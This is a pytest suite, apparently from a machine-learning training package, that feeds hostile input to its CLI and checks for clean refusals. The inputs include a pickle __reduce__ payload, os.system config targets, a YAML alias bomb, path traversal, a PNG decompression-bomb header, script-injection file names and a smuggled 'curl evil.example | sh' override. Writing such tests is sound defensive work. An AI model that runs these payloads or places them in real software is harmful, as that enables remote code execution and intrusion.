"""Hostile and careless input, one row per case (issue 15). Each row builds its input in a temporary folder, runs the
real command as a user would, and checks: the exit code, the one line on stderr (no traceback), that no marker file
appeared (nothing executed), and what must not be lost.

To add a case: write a `make(env) -> argv` that prepares the input and returns the command (after `python -m`), then
append a `Case` to CASES. `env` has `data` (a private small data set), `tmp`, `run` (a private copy of a finished
training run) and `marker` (a file that must never be created).
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import struct
import subprocess
import sys
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np
import pytest
import torch
import yaml
from PIL import Image

from physiotouch.cli import ConfigError, as_user_error
from physiotouch.config_checks import TRAIN_RULES, validate_train_config
from physiotouch.data import build_datamodule
from physiotouch.data.frames import FrameError, decode_frame, to_rgb8
from physiotouch.hydra_setup import compose_config

from .conftest import train_overrides

FIXTURES = Path(__file__).resolve().parents[1].parent / "shared" / "fixtures"


@dataclass
class Env:
    data: Path
    tmp: Path
    run: Path
    marker: Path


@dataclass
class Case:
    id: str
    make: Callable[[Env], list[str]]
    code: int
    says: str  # a piece of the one-line message
    after: Callable[[Env], None] | None = None  # what must hold afterwards (nothing lost, nothing written)
    timeout: float = 240


def train(env: Env, *extra: str, out: Path | None = None) -> list[str]:
    out = out or env.tmp / "out"
    given = {e.split("=", 1)[0] for e in extra}
    overrides = [o for o in [*train_overrides(env.data, out), "trainer.max_epochs=1"]
                 if not o.startswith("paths.output_dir") and o.split("=", 1)[0] not in given]
    return ["physiotouch.train", *overrides, f"hydra.run.dir={out}", *extra]


def set_run_config(env: Env, change: Callable[[dict], None]) -> None:
    path = env.run / "config_resolved.yaml"
    cfg = yaml.safe_load(path.read_text())
    change(cfg)
    path.write_text(yaml.safe_dump(cfg))


def evaluate(env: Env) -> list[str]:
    best = json.loads((env.run / "summary.json").read_text())["best_checkpoint"]
    return ["physiotouch.evaluate", f"ckpt_path={env.run / 'checkpoints' / Path(best).name}",
            f"hydra.run.dir={env.tmp / 'eval'}"]


def finalize(env: Env, target: Path | None = None) -> list[str]:
    return ["physiotouch.finalize", str(target or env.run), "--out", str(env.tmp / "release"),
            "--docs-root", str(env.tmp)]


# --- S1: a run folder's config never runs code -----------------------------------------------------------------------
def payload(env: Env) -> Path:
    class Exploit:
        def __reduce__(self):
            return (open, (str(env.marker), "w"))

    path = env.tmp / "payload.pt"
    torch.save({"x": Exploit()}, path)
    return path


def nested_target(env: Env) -> None:
    set_run_config(env, lambda c: c["data"].update(
        pwn={"_target_": "torch.load", "f": str(payload(env)), "weights_only": False}))


def top_target(env: Env) -> None:
    set_run_config(env, lambda c: c["data"].update(
        _target_="os.system", command=f"touch {env.marker}"))


def alias_bomb(env: Env) -> None:
    """Nine levels of nine aliases each: a few hundred bytes that expand to 9^9 strings when traversed."""
    lines, previous = ["a: &a [x, x, x, x, x, x, x, x, x]"], "a"
    for name in "bcdefghi":
        lines.append(f"{name}: &{name} [{', '.join([f'*{previous}'] * 9)}]")
        previous = name
    (env.run / "config_resolved.yaml").write_text("\n".join(lines) + "\ndata: {root: x}\n")


def synthetic_over_user_folder(env: Env) -> None:
    precious = env.tmp / "precious"
    precious.mkdir()
    (precious / "thesis.tex").write_text("years of work")
    set_run_config(env, lambda c: c["data"].update(root=str(precious), index=str(precious / "index.csv"),
                                                   synthetic={"num_objects": 4, "frames": 8}))


def precious_kept(env: Env) -> None:
    assert (env.tmp / "precious" / "thesis.tex").read_text() == "years of work"


def release_folder_taken(env: Env) -> list[str]:
    (env.tmp / "release").mkdir()
    (env.tmp / "release" / "model.ckpt").write_text("an earlier release")
    return finalize(env)


def not_looked_at(env: Env) -> None:
    assert not (env.tmp / "datadir" / "test_ledger.json").exists(), "the test split was looked at for nothing"
    assert not (env.tmp / "release").exists(), "a refused release wrote files"


def no_test_look(env: Env) -> None:
    assert not (env.tmp / "datadir" / "test_ledger.json").exists(), "the test split was looked at for nothing"
    assert (env.tmp / "release" / "model.ckpt").read_text() == "an earlier release"


# --- S2: index rows stay inside the data root -------------------------------------------------------------------------
def escaping_row(env: Env) -> None:
    outside = env.tmp / "outside" / "data_fine_evil_digit"
    shutil.copytree(next(p for p in env.data.iterdir() if p.is_dir()), outside)
    first = next(p for p in env.data.iterdir() if p.is_dir()).name
    with (env.data / "index.csv").open("a") as fh:
        fh.write(f"{first}/../../outside/data_fine_evil_digit,0,9\n")


def symlinked_folder(env: Env) -> None:
    outside = env.tmp / "elsewhere"
    shutil.copytree(next(p for p in env.data.iterdir() if p.is_dir()), outside)
    (env.data / "data_fine_linked_digit").symlink_to(outside)
    with (env.data / "index.csv").open("a") as fh:
        fh.write("data_fine_linked_digit,0,9\n")


def frame_link(env: Env) -> None:
    secret = env.tmp / "secret.png"
    shutil.copy(first_frame(env), secret)
    first_frame(env).unlink()
    first_frame(env).symlink_to(secret)


# --- S3: a reference file cannot make us allocate without bound -------------------------------------------------------
def stride_zero_pth(env: Env) -> Path:
    big = 16384
    tiny = torch.zeros(1)
    state = {k: tiny.expand(*shape) for k, shape in {
        "touch_model.embeddings.position_embedding.weight": (17, big),
        "touch_model.embeddings.patch_embedding.weight": (big, 3, 14, 14),
        "touch_projection.weight": (48, big), "decoder_embed.weight": (32, big),
        "touch_model.encoder.layers.0.mlp.fc1.weight": (4 * big, big),
        "touch_decoder_blocks.0.intermediate.dense.weight": (64, 32)}.items()}
    path = env.tmp / "huge.pth"
    torch.save({"model": state, "epoch": 1}, path)
    return path


def many_layers_pth(env: Env) -> Path:
    """Honest, small tensors, but key names that claim 5,000 encoder layers of width 4,096 (a trillion weights)."""
    state = {"touch_model.embeddings.position_embedding.weight": torch.zeros(17, 1),
             "touch_model.embeddings.patch_embedding.weight": torch.zeros(4096, 3, 1, 1),
             "touch_projection.weight": torch.zeros(48, 1), "decoder_embed.weight": torch.zeros(32, 1),
             "touch_model.encoder.layers.0.mlp.fc1.weight": torch.zeros(4096, 1),
             "touch_decoder_blocks.0.intermediate.dense.weight": torch.zeros(64, 1)}
    state.update({f"touch_model.encoder.layers.{i}.x": torch.zeros(1) for i in range(5_000)})
    path = env.tmp / "layers.pth"
    torch.save({"model": state}, path)
    return path


# --- checkpoints of the wrong kind ------------------------------------------------------------------------------------
def saved(env: Env, obj, name: str) -> Path:
    path = env.tmp / name
    torch.save(obj, path)
    return path


def other_size_checkpoint(env: Env) -> Path:
    ckpt = torch.load(env.run / "checkpoints" / "last.ckpt", weights_only=True)
    ckpt["hyper_parameters"]["model_cfg"]["encoder"]["hidden_size"] = 32
    return saved(env, ckpt, "other_size.ckpt")


def other_size_in_run(env: Env) -> Path:
    """A checkpoint of another model size, put into this run's checkpoints folder."""
    return other_size_checkpoint(env).replace(env.run / "checkpoints" / "other_size.ckpt")


def run_info_without_run_id(env: Env) -> Path:
    """The run's own last checkpoint, but its run_info.json lost its run_id: ownership cannot be proven."""
    info = json.loads((env.run / "run_info.json").read_text())
    info.pop("run_id", None)
    (env.run / "run_info.json").write_text(json.dumps(info))
    return env.run / "checkpoints" / "last.ckpt"


def foreign_checkpoint(env: Env) -> Path:
    """A checkpoint of another run (another run id), put into this run's checkpoints folder."""
    ckpt = torch.load(env.run / "checkpoints" / "last.ckpt", weights_only=True)
    ckpt["physiotouch"]["run_id"] = "someone-else"
    path = env.run / "checkpoints" / "foreign.ckpt"
    torch.save(ckpt, path)
    return path


# --- frames and indexes -----------------------------------------------------------------------------------------------
def first_frame(env: Env) -> Path:
    folder = sorted(p for p in env.data.iterdir() if p.is_dir())[0]
    return folder / "0.png"


def png_claiming(width: int, height: int) -> bytes:
    """A real 1x1 PNG whose header then claims width x height (a decompression bomb's header, in 70 bytes)."""
    import io

    buf = io.BytesIO()
    Image.new("L", (1, 1)).save(buf, "PNG")
    raw = bytearray(buf.getvalue())
    ihdr = bytearray(raw[16:29])
    ihdr[0:8] = struct.pack(">II", width, height)
    raw[16:29] = ihdr
    raw[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + bytes(ihdr)))
    return bytes(raw)


# --- round two (issue 21): the tag and the docs ------------------------------------------------------------------
def finalize_tagged(env: Env, tag: str) -> list[str]:
    return ["physiotouch.finalize", str(env.run), f"--tag={tag}", "--docs-root", str(env.tmp)]


def nothing_released(env: Env) -> None:
    assert not (env.tmp / "datadir" / "test_ledger.json").exists(), "the test split was looked at for nothing"
    assert not (env.tmp / "releases").exists(), "a refused release wrote files"
    assert not list(env.tmp.parent.parent.glob("escaped_release*")), "a release was written outside the docs"


EVIL_CKPT = "best-epoch001\n## HEADING <img src=x onerror=alert(1)>.ckpt"
FAKE_END = "<!-- physiotouch:final-results:end --><script>alert(1)</script>"
EVIL_OVERRIDE = "seed=1; curl -s http://evil.example/x.sh | sh #"


def hostile_names_release(env: Env) -> list[str]:
    """A checkpoint whose file name holds a newline, a heading and HTML; run_info.json's commit a fake end marker
    and a script; an override a shell command."""
    shutil.copy2(env.run / "checkpoints" / "last.ckpt", env.run / "checkpoints" / EVIL_CKPT)
    info = json.loads((env.run / "run_info.json").read_text())
    info["git"] = {"commit": FAKE_END, "dirty": False}
    info["overrides"] = [*info.get("overrides", []), EVIL_OVERRIDE]
    info["command"] = f"python -m physiotouch.train {EVIL_OVERRIDE}\n{FAKE_END}"
    (env.run / "run_info.json").write_text(json.dumps(info))
    for doc in ("README.md", "Task.md"):
        (env.tmp / doc).write_text(f"# {doc}\n\nthe user's own text\n")
    return finalize(env, env.run / "checkpoints" / EVIL_CKPT)


def docs_stay_inert(env: Env) -> None:
    import shlex

    from physiotouch.release.docs_block import BEGIN, END

    assert "physiotouch:final-results" not in (env.tmp / "README.md").read_text()  # no --tag: no document written
    subprocess.run([sys.executable, "-m", "physiotouch.finalize", "--docs-from", str(env.tmp / "release"),
                    "--docs-root", str(env.tmp)], check=True, capture_output=True)  # rendered as a tag would
    for doc in ("README.md", "Task.md"):
        text = (env.tmp / doc).read_text()
        assert text.count(BEGIN) == 1 and text.count(END) == 1, doc
        assert "<img" not in text and "<script" not in text and "\n## HEADING" not in text, doc
        assert "the user's own text" in text
    reproduce = (env.tmp / "release" / "REPRODUCE.md").read_text()
    assert "<script" not in reproduce
    train_line = next(line for line in reproduce.splitlines() if "physiotouch.train" in line)
    words = shlex.split(train_line)
    assert EVIL_OVERRIDE in words and "curl" not in words and "sh" not in words  # one inert argument
    assert "git checkout <commit>" in reproduce  # the fake commit is not shown
    # an older render whose block holds a forged end marker: re-rendering replaces the block whole
    readme = env.tmp / "README.md"
    text = readme.read_text()
    readme.write_text(text.replace(BEGIN, BEGIN + "\nstale line\n" + END + "\nforged tail\n", 1))
    subprocess.run([sys.executable, "-m", "physiotouch.finalize", "--docs-from", str(env.tmp / "release"),
                    "--docs-root", str(env.tmp)], check=True, capture_output=True)
    text = readme.read_text()
    assert text.count(BEGIN) == 1 and text.count(END) == 1 and "forged tail" not in text and "stale line" not in text
    assert "the user's own text" in text


def checkpoint_model_edit(env: Env, **encoder) -> Path:
    """The run's checkpoint with a ~1 KB edit of its model config (e.g. 20,000 layers of width 4)."""
    ckpt = torch.load(env.run / "checkpoints" / "last.ckpt", weights_only=True)
    ckpt["hyper_parameters"]["model_cfg"]["encoder"].update(encoder)
    return saved(env, ckpt, "edited.ckpt")


def evaluate_ckpt(env: Env, ckpt: Path) -> list[str]:
    return ["physiotouch.evaluate", f"ckpt_path={ckpt}", f"hydra.run.dir={env.tmp / 'eval'}"]


# --- round two (issue 21): bounded memory, the formats a frame comes in --------------------------------------------
def sparse_index(env: Env) -> None:
    """index.csv grown to 256 MB without writing it (a sparse file): refused from its size, before reading."""
    with (env.data / "index.csv").open("r+b") as fh:
        fh.truncate(256 * 2**20)


def big_sixteen_bit_png(env: Env) -> None:
    """A real 8192x8192 16-bit PNG: ~150 KB on disk, 128 MiB decoded."""
    Image.new("I;16", (8192, 8192)).save(first_frame(env), "PNG")


def eps_named_png(env: Env) -> None:
    first_frame(env).write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n%%EOF\n")


def huge_label_field(env: Env) -> None:
    folder = (env.data / "index.csv").read_text().splitlines()[0].split(",")[0]
    (env.data / "labels.csv").write_text(f"folder,motion\n{folder},{'x' * 200_000}\n")


# --- round two (issue 21): one line and the right exit code ------------------------------------------------------
def frame_symlink_loop(env: Env) -> None:
    frame = first_frame(env)
    frame.unlink()
    os.symlink(frame.name, frame)  # a link to itself


def deeply_nested_run_file(env: Env, name: str) -> None:
    (env.run / name).write_text("[" * 200_000 + "]" * 200_000)  # JSON, and YAML too


def search(env: Env, *extra: str) -> list[str]:
    out = env.tmp / "sweep"
    overrides = [o for o in train(env)[1:] if not o.startswith("hydra.run.dir")]
    return ["physiotouch.train", "-m", "hparams_search=coarse", "hydra.sweeper.n_trials=1", f"hydra.sweep.dir={out}",
            f"paths.log_dir={env.tmp}", *overrides, *extra]  # log_dir: the coarse preset's study lives under it


def garbage_storage(env: Env, name: str, content: bytes) -> str:
    (env.tmp / name).write_bytes(content)
    scheme = "journal" if name.endswith(".journal") else "sqlite"
    return f"hydra.sweeper.storage='{scheme}:///{env.tmp / name}'"


def no_trial_ran(env: Env) -> None:
    assert not list((env.tmp / "sweep").glob("*/run_info.json")), "a trial ran before the search was refused"


def no_checkpoint(env: Env) -> None:
    assert not list((env.tmp / "out").glob("checkpoints/*.ckpt")), "a refused config still trained"


def check(env: Env) -> list[str]:
    return ["physiotouch.data", "check", "--root", str(env.data), "--index", str(env.data / "index.csv")]


def absurd_end(env: Env) -> None:
    """Every row's end frame typed as 10000000 (so every split meets one)."""
    rows = [line.split(",")[0] for line in (env.data / "index.csv").read_text().splitlines() if line]
    (env.data / "index.csv").write_text("".join(f"{folder},0,10000000\n" for folder in rows))


def rewrite_index(env: Env, encoding: str | None = None, raw: bytes | None = None) -> None:
    text = (env.data / "index.csv").read_text()
    (env.data / "index.csv").write_bytes(raw if raw is not None else text.encode(encoding))


# --- run folders -----------------------------------------------------------------------------------------------------
def finished_run_in(env: Env) -> list[str]:
    out = env.tmp / "used"
    assert subprocess.run([sys.executable, "-m", *train(env, out=out)], capture_output=True).returncode == 0
    (env.tmp / "used_sum").write_text((out / "summary.json").read_text())
    return train(env, "seed=7", out=out)


def summary_unchanged(env: Env) -> None:
    assert (env.tmp / "used" / "summary.json").read_text() == (env.tmp / "used_sum").read_text()


def full_disk_on_save(env: Env) -> list[str]:
    code = ("import errno, runpy, sys\nimport physiotouch.checkpoints.io as cb\n"
            "def full(*a, **k):\n    raise OSError(errno.ENOSPC, 'No space left on device', str(a[1]))\n"
            "cb.atomic_torch_save = full\nsys.argv = ['train'] + sys.argv[1:]\n"
            "runpy.run_module('physiotouch.train', run_name='__main__')\n")
    return ["-c", code, *train(env)[1:]]


def torch_write_fails_on_save(env: Env) -> list[str]:
    """torch.save's own failure on a full disk: a RuntimeError from its zip writer, not an OSError."""
    code = ("import runpy, sys, torch\n"
            "def full(*a, **k):\n    raise RuntimeError('[enforce fail at inline_container.cc:783] . "
            "PytorchStreamWriter failed writing file data/0: file write failed')\n"
            "torch.save = full\nsys.argv = ['train'] + sys.argv[1:]\n"
            "runpy.run_module('physiotouch.train', run_name='__main__')\n")
    return ["-c", code, *train(env)[1:]]


def bad_main_metric(env: Env) -> list[str]:
    return ["physiotouch.report", str(env.run), "--main", "val/no_such_metric", "--out", str(env.tmp / "rep")]


CASES = [
    # S1: nothing in a run folder runs code
    Case("evaluate-nested-target", lambda e: (nested_target(e), evaluate(e))[-1], 2, "holds a _target_"),
    Case("evaluate-top-target", lambda e: (top_target(e), evaluate(e))[-1], 2, "is not allowed"),
    Case("finalize-nested-target", lambda e: (nested_target(e), finalize(e))[-1], 2, "holds a _target_"),
    Case("finalize-alias-bomb", lambda e: (alias_bomb(e), finalize(e))[-1], 2, "aliases"),
    Case("evaluate-synthetic-over-a-user-folder", lambda e: (synthetic_over_user_folder(e), evaluate(e))[-1], 2,
         "refusing to write", after=precious_kept),
    Case("finalize-into-an-existing-release", release_folder_taken, 2, "never overwritten", after=no_test_look),
    # S2: index rows stay inside the data root
    Case("train-index-escapes-root", lambda e: (escaping_row(e), train(e))[-1], 2, "outside the data root"),
    Case("check-index-escapes-root", lambda e: (escaping_row(e), check(e))[-1], 1, "outside the data root"),
    Case("train-symlinked-folder", lambda e: (symlinked_folder(e), train(e))[-1], 2, "outside the data root"),
    Case("train-frame-links-outside", lambda e: (frame_link(e), train(e))[-1], 2, "outside the data root"),
    # S3: bounded allocation from reference files
    Case("legacy-stride-zero", lambda e: ["physiotouch.legacy", "info", str(stride_zero_pth(e))], 2, "claims",
         timeout=60),
    Case("legacy-many-layers", lambda e: ["physiotouch.legacy", "info", str(many_layers_pth(e))], 2,
         "num_hidden_layers=5000 must be an integer in [1, 256]",
         timeout=120),
    # checkpoints of the wrong kind, or of another model size
    Case("resume-from-list", lambda e: train(e, f"ckpt_path={saved(e, [1, 2], 'list.ckpt')}"), 2,
         "not a physiotouch checkpoint"),
    Case("resume-from-tensor", lambda e: train(e, f"ckpt_path={saved(e, torch.zeros(3), 't.ckpt')}"), 2,
         "not a physiotouch checkpoint"),
    Case("resume-from-dict", lambda e: train(e, f"ckpt_path={saved(e, {'a': 1}, 'd.ckpt')}"), 2,
         "not a physiotouch checkpoint"),
    Case("resume-other-size", lambda e: train(e, f"ckpt_path={other_size_checkpoint(e)}"), 2, "was trained with"),
    Case("init-from-other-size", lambda e: train(e, f"init_from={other_size_checkpoint(e)}"), 2, "was trained with"),
    Case("init-from-list", lambda e: train(e, f"init_from={saved(e, [1], 'l.pth')}"), 2, "not a checkpoint"),
    Case("finalize-foreign-checkpoint", lambda e: finalize(e, foreign_checkpoint(e)), 2, "not written by the run"),
    Case("finalize-run-info-without-run-id", lambda e: finalize(e, run_info_without_run_id(e)), 2, "has no run_id",
         after=lambda e: not_looked_at(e)),
    Case("finalize-checkpoint-of-other-size", lambda e: finalize(e, other_size_in_run(e)), 2, "model size"),
    # frames and indexes
    Case("check-absurd-end-frame", lambda e: (absurd_end(e), check(e))[-1], 1, "are missing", timeout=60),
    Case("train-absurd-end-frame", lambda e: (absurd_end(e), train(e))[-1], 2, "are missing", timeout=120),
    Case("check-decompression-bomb", lambda e: (first_frame(e).write_bytes(png_claiming(60000, 60000)), check(e))[-1],
         1, "decompression bomb"),
    Case("check-fifo-frame", lambda e: (first_frame(e).unlink(), os.mkfifo(first_frame(e)), check(e))[-1], 1,
         "not a regular file", timeout=60),
    Case("train-skip-fifo-frame", lambda e: (first_frame(e).unlink(), os.mkfifo(first_frame(e)),
                                             train(e, "data.on_bad_frames=skip"))[-1], 0, "", timeout=180),
    Case("check-latin1-index", lambda e: (rewrite_index(e, raw=b"data_fine_caf\xe9_digit,0,9\n"), check(e))[-1], 2,
         "not UTF-8"),
    Case("train-latin1-index", lambda e: (rewrite_index(e, raw=b"data_fine_caf\xe9_digit,0,9\n"), train(e))[-1], 2,
         "index.csv"),
    Case("check-utf16-index-is-read", lambda e: (rewrite_index(e, "utf-16"), check(e))[-1], 0, ""),
    Case("check-nul-in-index", lambda e: (rewrite_index(e, raw=b"data_fine_a\x00b_digit,0,9\n"), check(e))[-1], 1,
         "control characters"),
    Case("train-nul-in-index", lambda e: (rewrite_index(e, raw=b"data_fine_a\x00b_digit,0,9\n"), train(e))[-1], 2,
         "control characters"),
    # run folders: one writer, nothing overwritten, the machine's problems in one line
    Case("fresh-run-into-finished-folder", finished_run_in, 2, "already holds a run", after=summary_unchanged),
    Case("checkpoints-not-writable", lambda e: ((e.tmp / "out").mkdir(), (e.tmp / "out" / "checkpoints").write_text(""),
                                                train(e, "ckpt_path=last"))[-1], 3, "not writable"),
    Case("output-under-a-file", lambda e: ((e.tmp / "f").write_text(""), train(e, out=e.tmp / "f" / "run"))[-1], 3,
         "not writable"),
    Case("disk-full-while-saving", full_disk_on_save, 3, "no space left on the device"),
    # reports
    Case("report-unknown-metric", bad_main_metric, 2, "val/no_such_metric"),
    # config values checked where they enter (one CLI case; every rule is tried in-process below)
    Case("config-blr-not-a-number", lambda e: train(e, "optim.blr=abc"), 2, "optim.blr"),
    Case("config-negative-epochs", lambda e: train(e, "trainer.max_epochs=-1"), 2, "trainer.max_epochs"),
    Case("config-unknown-data-key", lambda e: train(e, "+data.nonsense=1"), 2, "unknown data key"),
    Case("config-mask-ratio-leaves-no-patch", lambda e: train(e, "model.mask_ratio=0.99"), 2,
         "model.mask_ratio=0.99 leaves no visible patch"),
    Case("finalize-tag-like-an-option", lambda e: finalize_tagged(e, "-d"), 2, "is not a plain name",
         after=nothing_released),
    Case("finalize-tag-escapes-the-docs", lambda e: finalize_tagged(e, "../../escaped_release"), 2,
         "is not a plain name", after=nothing_released),
    Case("finalize-hostile-names-reach-no-doc", hostile_names_release, 0, "", after=docs_stay_inert),
    Case("evaluate-twenty-thousand-layers",
         lambda e: evaluate_ckpt(e, checkpoint_model_edit(e, hidden_size=4, num_attention_heads=1,
                                                          intermediate_size=4, num_hidden_layers=20_000)), 2,
         "num_hidden_layers=20000", timeout=60),
    Case("evaluate-patch-size-zero", lambda e: evaluate_ckpt(e, checkpoint_model_edit(e, patch_size=0)), 2,
         "patch_size=0", timeout=60),
    Case("disk-full-inside-torch-save", torch_write_fails_on_save, 3, "input/output error (a failing or full disk)"),
    Case("check-sparse-256mb-index", lambda e: (sparse_index(e), check(e))[-1], 2, "above the limit of 64 MiB",
         timeout=60),
    Case("check-8192-square-16-bit-png", lambda e: (big_sixteen_bit_png(e), check(e))[-1], 1,
         "above the limit of 64 MiB", timeout=90),
    Case("check-eps-named-png", lambda e: (eps_named_png(e), check(e))[-1], 1, "not a decodable PNG, JPEG", timeout=60),
    Case("check-labels-field-over-128k", lambda e: (huge_label_field(e), check(e))[-1], 2, "is not a readable CSV",
         timeout=60),
    Case("check-frame-symlink-loop", lambda e: (frame_symlink_loop(e), check(e))[-1], 1, "symlink loop",
         timeout=60),
    Case("train-frame-symlink-loop", lambda e: (frame_symlink_loop(e), train(e))[-1], 2, "symlink loop"),
    Case("evaluate-splits-nested-200000-deep",
         lambda e: (lambda cmd: (deeply_nested_run_file(e, "splits.json"), cmd)[-1])(evaluate(e)), 2,
         "nested too deeply", timeout=120),
    Case("report-run-info-nested-200000-deep",
         lambda e: (deeply_nested_run_file(e, "config_resolved.yaml"),
                    ["physiotouch.report", str(e.run), "--out", str(e.tmp / "rep")])[-1], 2, "nested too deeply",
         timeout=120),
    Case("search-corrupt-journal", lambda e: search(e, garbage_storage(e, "s.journal", b"garbage\n{")), 2,
         "is not an Optuna journal file", after=no_trial_ran),
    Case("search-garbage-sqlite", lambda e: search(e, garbage_storage(e, "s.db", bytes(range(256)) * 20)), 2,
         "cannot be opened", after=no_trial_ran),
    Case("search-pruner-value-not-group", lambda e: search(e, "hydra.sweeper.pruner=median"), 2,
         "choose the config group with hydra/sweeper/pruner=median", after=no_trial_ran),
    Case("smoke-run-with-the-default-warm-up", lambda e: train(e, "optim.warmup_epochs=2"), 0, ""),
    Case("config-unknown-loss-key", lambda e: train(e, "+loss.alpah=0.3"), 2,
         "unknown key loss.alpah (did you mean loss.alpha?)"),
    Case("config-unknown-optim-key", lambda e: train(e, "+optim.lr_min=0.1"), 2, "unknown key optim.lr_min"),
    Case("config-ema-decay-not-a-number", lambda e: train(e, "loss=auto_balanced", "loss.ema_decay=abc"), 2,
         "loss.ema_decay='abc' is not valid: it must be of type float", after=lambda e: no_checkpoint(e)),
    Case("config-precision-bogus", lambda e: train(e, "trainer.precision=bogus"), 2, "trainer.precision='bogus'"),
    Case("train-lock-file-holds-a-list", lambda e: ((e.tmp / "out").mkdir(), (e.tmp / "out" / ".run.lock")
                                                    .write_text("[1, 2]"), train(e))[-1], 0, ""),
    Case("train-clip-folder-broken-config",
         lambda e: ((e.tmp / "clip").mkdir(), (e.tmp / "clip" / "config.json").write_text('{"vision_config": {'),
                    train(e, "model.encoder.init=clip", f"model.encoder.clip_path={e.tmp / 'clip'}"))[-1], 2,
         "is not a readable CLIP config.json"),
    Case("train-batch-larger-than-the-split", lambda e: train(e, "data.batch_size=4096"), 2,
         "data.batch_size=4096 is larger than the train split's"),
    Case("search-every-trial-failed", lambda e: search(e, "data.batch_size=4096"), 2, "all 1 trials failed"),
    Case("finalize-docs-from-a-foreign-release",
         lambda e: ((e.tmp / "rel").mkdir(), (e.tmp / "rel" / "release.json").write_text('{"name": "x"}'),
                    ["physiotouch.finalize", "--docs-from", str(e.tmp / "rel"), "--docs-root", str(e.tmp)])[-1], 2,
         "is not a physiotouch release's"),
]


def make_env(data_master: Path, trained_run: Path, tmp_path: Path) -> Env:
    """A private copy of the small data set and of a finished run, in its own folder."""
    data = tmp_path / "synth"
    shutil.copytree(data_master, data)
    run = tmp_path / "run"
    shutil.copytree(trained_run, run)
    cfg_file = run / "config_resolved.yaml"
    cfg = yaml.safe_load(cfg_file.read_text())
    cfg["paths"]["data_dir"] = str(tmp_path / "datadir")  # its own test ledger
    cfg_file.write_text(yaml.safe_dump(cfg))
    summary = json.loads((run / "summary.json").read_text())
    summary["best_checkpoint"] = str(run / "checkpoints" / Path(summary["best_checkpoint"]).name)
    (run / "summary.json").write_text(json.dumps(summary))
    return Env(data, tmp_path, run, tmp_path / "MARKER")


def run_case(case: Case, env: Env):
    argv = case.make(env)
    argv = argv if argv[0] == "-c" else ["-m", *argv]
    started = time.time()
    try:
        res = subprocess.run([sys.executable, *argv], capture_output=True, text=True, timeout=case.timeout,
                             cwd=env.tmp)
    except subprocess.TimeoutExpired as err:
        return err, time.time() - started
    return res, time.time() - started


@pytest.fixture(scope="module")
def outcomes(small_data_master, trained_run, tmp_path_factory, request) -> dict:
    """The selected cases' commands (all, or those `-k` picks), run two at a time (each is a separate process; the
    machine has two cores)."""
    chosen = {item.callspec.params["case"].id for item in request.session.items
              if item.originalname == "test_hostile_input" and hasattr(item, "callspec")}
    envs = {c.id: make_env(small_data_master, trained_run, tmp_path_factory.mktemp(c.id)) for c in CASES
            if c.id in chosen}
    with ThreadPoolExecutor(max_workers=2) as pool:
        futures = {c.id: pool.submit(run_case, c, envs[c.id]) for c in CASES if c.id in envs}
        return {cid: (envs[cid], *f.result()) for cid, f in futures.items()}


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
@pytest.mark.slow
def test_hostile_input(case: Case, outcomes: dict):
    env, res, seconds = outcomes[case.id]
    assert not isinstance(res, subprocess.TimeoutExpired), f"no answer within {case.timeout} s (a hang)"
    assert res.returncode == case.code, f"exit {res.returncode} after {seconds:.0f}s:\n" + \
        res.stderr[-3000:]
    assert "Traceback" not in res.stderr, res.stderr[-3000:]
    said = res.stderr if case.code >= 2 else res.stdout + res.stderr  # `check` lists its findings on stdout
    assert case.says in said, said[-3000:]
    if case.code >= 2:
        errors = [line for line in res.stderr.splitlines() if line.startswith("error: ")]
        assert len(errors) == 1, res.stderr[-3000:]
    assert not env.marker.exists(), "a file from the input ran code"
    if case.after:
        case.after(env)


# --- in-process: every config rule, frames, caches, locks, metrics, sweeps ------------------------------------------
BAD_VALUES = {"seed": "abc", "optim.betas": [0.9], "data.val_batch_size": 0}


@pytest.mark.parametrize("key", [k for k, _, _ in TRAIN_RULES])
def test_every_config_rule_names_its_key(key, tmp_path):
    bad = BAD_VALUES.get(key, -1)
    cfg = compose_config(train_overrides(tmp_path, tmp_path) + [f"{key}={json.dumps(bad)}"])
    with pytest.raises(ConfigError, match=key.replace(".", r"\.")):
        validate_train_config(cfg)


# The range rules written beside their dataclass's fields (each class's `validate`): a bad value for every one.
SETTINGS_RULES = ["optim.blr=-1", "optim.blr=nan", "optim.lr=inf", "optim.min_lr=-1", "optim.weight_decay=-1",
                  "optim.warmup_epochs=-1", "optim.accum_iter=0", "optim.grad_clip=-1", "optim.betas=[0.9]",
                  "optim.betas=[0.9,1.0]", "model.mask_ratio=0", "model.mask_ratio=1", "loss.alpha=-1",
                  "loss.beta=-1", "loss.static_ratio=1.5", "augment.hflip=2", "augment.vflip=-0.5",
                  "data.split.val_fraction=1", "data.split.test_fraction=-0.1", "data.split.k_folds=-1",
                  "data.split.k_folds=3 data.split.fold=3"]


@pytest.mark.parametrize("override", ["validation.mask_ratio=1.0", "data.batch_size=-4", "seed=1.5",
                                      *SETTINGS_RULES])
def test_meaningless_values_are_refused(override, tmp_path):
    overrides = override.split()
    cfg = compose_config(train_overrides(tmp_path, tmp_path) + overrides)
    with pytest.raises(ConfigError, match=overrides[-1].split("=")[0].replace(".", r"\.")):
        validate_train_config(cfg)


def test_a_smoke_run_shortens_the_warm_up_and_records_it(tmp_path):
    """trainer.max_epochs=1 with the default warm-up (2 epochs): warned and shortened to half the run, in the config
    the run records, instead of refused."""
    cfg = compose_config([o for o in train_overrides(tmp_path, tmp_path) if not o.startswith("optim.warmup_epochs")]
                         + ["trainer.max_epochs=1"])
    assert cfg.optim.warmup_epochs == 2
    validate_train_config(cfg)
    assert cfg.optim.warmup_epochs == 0.5


def test_the_composed_defaults_pass(tmp_path):
    validate_train_config(compose_config(train_overrides(tmp_path, tmp_path)))


def test_sixteen_bit_frames_keep_their_grey_levels(tmp_path):
    values = np.array([[0, 257 * 64], [257 * 128, 65535]], dtype=np.uint16)
    path = tmp_path / "f.png"
    Image.fromarray(values).save(path)
    assert Image.open(path).mode in ("I;16", "I")  # how Pillow reads a 16-bit grayscale PNG
    rgb = decode_frame(path, None)
    assert rgb[..., 0].tolist() == [[0, 64], [128, 255]] and (rgb[..., 0] == rgb[..., 2]).all()
    with pytest.raises(FrameError, match="unsupported image mode F"):
        to_rgb8(Image.new("F", (2, 2)))


def test_allow_outside_root_accepts_the_row(small_data, tmp_path):
